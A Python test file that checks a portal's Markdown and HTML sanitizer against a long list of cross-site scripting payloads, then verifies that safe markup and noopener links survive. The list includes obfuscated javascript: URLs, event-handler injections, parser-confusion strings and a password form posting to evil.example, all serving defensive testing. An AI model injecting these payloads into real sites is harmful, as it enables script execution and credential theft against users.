"""Hostile Markdown and HTML never produce executable content through Sanad's sanitizer.

The safety property is checked on the output as a browser-like parser sees it: only
allow-listed tags, no event handlers, no style or class, and only http(s)/mailto/relative
URLs. docs/sanitizer.md describes the allow-list and why it is shaped so.
"""

from __future__ import annotations

import re
from html.parser import HTMLParser

import pytest

from portal.kb.rendering import (
    ALLOWED_PROTOCOLS,
    ALLOWED_TAGS,
    IMAGE_PROTOCOLS,
    render_markdown,
    sanitize_html,
)
from tests.support.hostile import naughty_strings

HOSTILE = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    '<img src=x onerror="alert(1)">',
    "<img src=x onerror=alert(1)//",
    '<IMG SRC="javascript:alert(1)">',
    "<img src=JaVaScRiPt:alert(1)>",
    '<img src="jav&#x09;ascript:alert(1)">',
    '<img src="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">',
    '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
    '<img src="mailto:x@example.org">',
    '<a href="javascript:alert(1)">x</a>',
    '<a href="JAVASCRIPT:alert(1)">x</a>',
    '<a href=" javascript:alert(1)">x</a>',
    '<a href="java\nscript:alert(1)">x</a>',
    '<a href="&#x6A;avascript:alert(1)">x</a>',
    '<a href="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112'
    "&#0000116&#0000058&#0000097&#0000108&#0000101&#0000114&#0000116&#0000040&#0000039&#0000088"
    '&#0000083&#0000083&#0000039&#0000041">x</a>',
    '<a href="vbscript:msgbox(1)">x</a>',
    '<a href="VBScript:msgbox(1)">x</a>',
    '<a href="data:text/html,<script>alert(1)</script>">x</a>',
    '<a href="DaTa:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
    '<a href="https://example.org" onclick="alert(1)" onmouseover=alert(2)>x</a>',
    '<a href="https://example.org" target="_blank" rel="opener">x</a>',
    "[click](javascript:alert(1))",
    "[click](JaVaScRiPt:alert(1))",
    "[click](javascript&#58;alert(1))",
    "[click](data:text/html;base64,PHNjcmlwdD4=)",
    "[click](vbscript:msgbox(1))",
    '[click](https://example.org "title\\" onmouseover=\\"alert(1)")',
    "![img](javascript:alert(1))",
    '![img](x" onerror="alert(1))',
    "![img](data:image/png;base64,iVBORw0KGgo=)",
    "<javascript:alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    '<math href="javascript:alert(1)">CLICK</math>',
    '<iframe src="https://evil.example"></iframe>',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    '<object data="javascript:alert(1)"></object>',
    '<embed src="javascript:alert(1)">',
    '<form action="https://evil.example"><input name="password"><button>Go</button></form>',
    '<input autofocus onfocus="alert(1)">',
    '<p style="background:url(javascript:alert(1))">x</p>',
    '<div style="width: expression(alert(1))">x</div>',
    '<p class="admin-only" id="login">x</p>',
    '<h2 id="x onmouseover=alert(1)">heading</h2>',
    "<style>body{background:red}</style>",
    '<link rel="stylesheet" href="https://evil.example/x.css">',
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    '<base href="javascript:alert(1)//">',
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "<!--<img src=x onerror=alert(1)>-->",
    "<!-- --!><img src=x onerror=alert(1)> -->",
    "<![CDATA[<img src=x onerror=alert(1)>]]>",
    '<a href="https://example.org"><img src="x" onerror="alert(1)"></a>',
    '<img src="x" alt="a" onerror=alert(1) title="t">',
    "<b onmouseover=alert(1)>bold</b>",
    '<table><tr><td align="left" onclick="alert(1)" background="javascript:alert(1)">x</td></tr>'
    "</table>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    '<audio src=x onerror="alert(1)">',
    "<body onload=alert(1)>",
    '<div onpointerenter="alert(1)">x</div>',
    "<img/src=x/onerror=alert(1)>",
    '<img src="x"onerror="alert(1)">',
    "<img src=`x` onerror=`alert(1)`>",
    '<a href="https://ok.example" title=\'"><script>alert(1)</script>\'>x</a>',
    "<p>unclosed <b>bold <i>italic <a href='https://x.example'>link",
    "<<script>script>alert(1)<</script>/script>",
    "<scrİpt>alert(1)</scrİpt>",
    "<template><img src=x onerror=alert(1)></template>",
    "<select><template><img src=x onerror=alert(1)></template></select>",
    '<xmp><p title="</xmp><img src=x onerror=alert(1)>"></xmp>',
    '<textarea><p title="</textarea><img src=x onerror=alert(1)>"></textarea>',
    '<title><p title="</title><img src=x onerror=alert(1)>"></title>',
    '<style><p title="</style><img src=x onerror=alert(1)>"></style>',
    '<a href="//evil.example/path">protocol-relative</a>',
    '<a href="/kb/ar/reset">relative</a> <a href="#section">anchor</a>',
    '<a href="mailto:help@example.org">mail</a>',
    "```html\n<script>alert(1)</script>\n```",
    "`<img src=x onerror=alert(1)>`",
    "| a | b |\n|---|---|\n| <script>alert(1)</script> | <img src=x onerror=alert(1)> |",
    "# <img src=x onerror=alert(1)> heading",
    "## عنوان <script>alert(1)</script>",
    '> <a href="javascript:alert(1)">quoted</a>',
    "[a]: javascript:alert(1)\n\n[link][a]",
    "[a]: https://ok.example 'x\" onclick=\"alert(1)'\n\n[link][a]",
    '<a href="javascript&colon;alert(1)">colon entity</a>',
    '<a href="jav&NewLine;ascript:alert(1)">newline entity</a>',
    '<a href="&Tab;javascript:alert(1)">tab entity</a>',
    '<a href="\x00javascript:alert(1)">nul</a>',
    '<a href="https:evil.example">scheme only</a>',
    "<isindex type=image src=1 onerror=alert(1)>",
    '<object type="text/x-scriptlet" data="https://evil.example/x.sct"></object>',
    '<img src="x" dynsrc="javascript:alert(1)" lowsrc="javascript:alert(1)">',
    '<div><img src="https://ok.example/a.png" alt="ok"></div>',
]

# What the WHATWG URL parser drops before reading a scheme: leading and trailing C0 controls
# and spaces, and tabs and newlines anywhere ("java\tscript:" is still javascript:).
_URL_EDGES = re.compile(r"^[\x00-\x20]+|[\x00-\x20]+$")
_URL_NOISE = re.compile(r"[\t\n\r]")
_SCHEME = re.compile(r"^([a-zA-Z][a-zA-Z0-9+.-]*):")


class _SafetyChecker(HTMLParser):
    """Collects every violation of the safety property in one HTML fragment."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.violations: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag not in ALLOWED_TAGS:
            self.violations.append(f"tag <{tag}>")
        for name, value in attrs:
            if name.startswith("on"):
                self.violations.append(f"event handler {name} on <{tag}>")
            if name in ("style", "class", "srcdoc", "formaction", "action", "xlink:href"):
                self.violations.append(f"attribute {name} on <{tag}>")
            if name in ("href", "src") and value is not None:
                cleaned = _URL_NOISE.sub("", _URL_EDGES.sub("", value))
                scheme = _SCHEME.match(cleaned)
                allowed = IMAGE_PROTOCOLS if tag == "img" else ALLOWED_PROTOCOLS
                if scheme and scheme.group(1).lower() not in allowed:
                    self.violations.append(f"{name}={value!r} on <{tag}>")

    handle_startendtag = handle_starttag


def violations(html: str) -> list[str]:
    checker = _SafetyChecker()
    checker.feed(html)
    checker.close()
    return checker.violations


# --- bleach through render_markdown (the real pipeline) ----------------------------------


@pytest.mark.parametrize("text", HOSTILE)
def test_rendered_markdown_has_no_executable_content(text: str) -> None:
    html = render_markdown(text).html

    assert violations(html) == [], html
    assert violations(sanitize_html(html)) == []  # and sanitizing again keeps it safe


@pytest.mark.parametrize("text", HOSTILE)
def test_sanitize_html_alone_has_no_executable_content(text: str) -> None:
    assert violations(sanitize_html(text)) == []


def test_naughty_strings_render_safely() -> None:
    for text in naughty_strings():
        for source in (text, f"# {text}\n\n{text}\n\n[{text}]({text})\n\n| {text} |\n|---|\n"):
            html = render_markdown(source).html
            assert violations(html) == [], (text, html)


def test_safe_markup_survives() -> None:
    html = render_markdown(
        "## Steps\n\n1. Open **Settings** and press <kbd>Ctrl</kbd>+<kbd>S</kbd>.\n"
        '2. See [the guide](https://example.org/guide "Guide") or [help](mailto:h@example.org)'
        " or [the FAQ](/kb/en/faq#top).\n\n"
        '![Screen](/static/screen.png "Screen")\n\n'
        "| Left | Right |\n|:-----|------:|\n| a | b |\n\n"
        "H<sub>2</sub>O, x<sup>2</sup>, <del>old</del> <mark>new</mark>\n\n"
        "Term\n<dl><dt>Term</dt><dd>Definition</dd></dl>\n\n```\ncode\n```\n\n> quote\n\n---\n"
    ).html

    for fragment in (
        '<h2 id="steps">Steps</h2>',
        "<strong>Settings</strong>",
        "<kbd>Ctrl</kbd>",
        '<a href="https://example.org/guide" title="Guide" rel="noopener noreferrer">the guide</a>',
        'href="mailto:h@example.org"',
        'href="/kb/en/faq#top"',
        '<img alt="Screen" src="/static/screen.png" title="Screen">',
        '<th align="left">Left</th>',
        '<td align="right">b</td>',
        "<sub>2</sub>",
        "<sup>2</sup>",
        "<del>old</del>",
        "<mark>new</mark>",
        "<dt>Term</dt>",
        "<pre><code>code\n</code></pre>",
        "<blockquote>",
        "<hr>",
    ):
        assert fragment in html, fragment


def test_every_link_gets_noopener() -> None:
    html = render_markdown('[a](https://a.example) <a href="/b" rel="opener">b</a>').html

    assert html.count('rel="noopener noreferrer"') == 2
    assert "opener" not in html.replace("noopener", "")
